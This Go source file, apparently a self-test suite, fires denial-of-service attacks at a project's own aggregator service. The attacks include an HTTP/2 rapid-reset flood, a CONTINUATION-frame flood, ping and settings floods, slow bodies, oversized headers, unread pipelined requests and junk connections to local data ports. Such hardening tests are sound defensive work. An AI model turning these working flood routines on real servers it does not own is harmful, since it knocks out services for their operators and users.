package attacks

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/rackweave/rackweave/service/api/apiconnect"
)

// frames opens an HTTP/2 connection and lets f write frames to it. Its end is the aggregator's affair: it may close it at any time.
func (a *Aggregator) frames(ctx context.Context, f func(*http2.Framer) error) error {
	c, err := dialer.DialContext(ctx, "tcp", a.Addr())
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil
	}
	go io.Copy(io.Discard, c)
	framer := http2.NewFramer(c, c)
	framer.AllowIllegalWrites = true
	if framer.WriteSettings() != nil {
		return nil
	}
	f(framer)
	return nil
}

// request is the head of a call.
func request(path string) []byte {
	var head bytes.Buffer
	e := hpack.NewEncoder(&head)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "x"},
		{"content-type", "application/json"}} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return head.Bytes()
}

// RapidResets begins calls and takes each back at once.
func RapidResets(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) error {
		head := request(apiconnect.JobServiceJoinProcedure)
		for i := range uint32(20_000) {
			id := 2*i + 1
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true})
			if err = errors.Join(err, f.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
				return err
			}
		}
		return nil
	})
}

// HeadersWithoutEnd goes on with one call's headers.
func HeadersWithoutEnd(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) error {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request("/")})
		junk := bytes.Repeat([]byte{0x40, 1, 'x', 1, 'y'}, 3000)
		for i := 0; i < 10_000 && err == nil; i++ {
			err = f.WriteContinuation(1, false, junk)
		}
		return err
	})
}

// PingsAndSettings sends what must be answered and takes no answer.
func PingsAndSettings(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) (err error) {
		for i := 0; i < 50_000 && err == nil; i++ {
			err = errors.Join(f.WritePing(false, [8]byte{byte(i)}), f.WriteSettings())
		}
		return err
	})
}

// SlowBodies begins bodies on many streams and sends a byte of each now and then.
func SlowBodies(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) (err error) {
		for i := range uint32(30) {
			err = errors.Join(err, f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1,
				BlockFragment: request(apiconnect.JobServiceJoinProcedure), EndHeaders: true}))
		}
		for range 20 {
			for i := range uint32(30) {
				err = errors.Join(err, f.WriteData(2*i+1, false, []byte("{")))
			}
			if err != nil {
				return err
			}
			time.Sleep(50 * time.Millisecond)
		}
		return nil
	})
}

// LargeHeads sends requests whose heads are large, or have many lines.
func LargeHeads(ctx context.Context, a *Aggregator) error {
	for _, line := range []string{"X: " + strings.Repeat("y", 1<<20) + "\r\n", strings.Repeat("X: y\r\n", 100_000)} {
		c, err := dialer.DialContext(ctx, "tcp", a.Addr())
		if err != nil {
			return err
		}
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, "GET /metrics HTTP/1.1\r\nHost: x\r\n%s\r\n", line)
		answer, _ := io.ReadAll(io.LimitReader(c, 1<<10))
		c.Close()
		if bytes.HasPrefix(answer, []byte("HTTP/1.1 200")) {
			return fmt.Errorf("a head of %d bytes was taken", len(line))
		}
	}
	return nil
}

// Pipelined sends many requests at once over one connection, and reads nothing.
func Pipelined(ctx context.Context, a *Aggregator) error {
	c, err := dialer.DialContext(ctx, "tcp", a.Addr())
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Second))
	all := strings.Repeat("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", 1000)
	for range 100 {
		if _, err := io.WriteString(c, all); err != nil {
			break // as it should be: nobody takes the answers
		}
	}
	return nil
}

// DataPath talks to the port by which tcp carries gradients, which the kernel names.
func DataPath(ctx context.Context, a *Aggregator) error {
	ports, err := a.listening()
	if err != nil {
		return err
	}
	for _, port := range ports {
		for i := range 200 {
			c, err := dialer.DialContext(ctx, "tcp", fmt.Sprint("127.0.0.1:", port))
			if err != nil {
				break
			}
			c.Write(bytes.Repeat([]byte{byte(i), 0x57, 0x54, 0x48}, 10))
			if i%2 == 0 {
				c.(*net.TCPConn).SetLinger(0)
			}
			c.Close()
		}
	}
	return nil
}
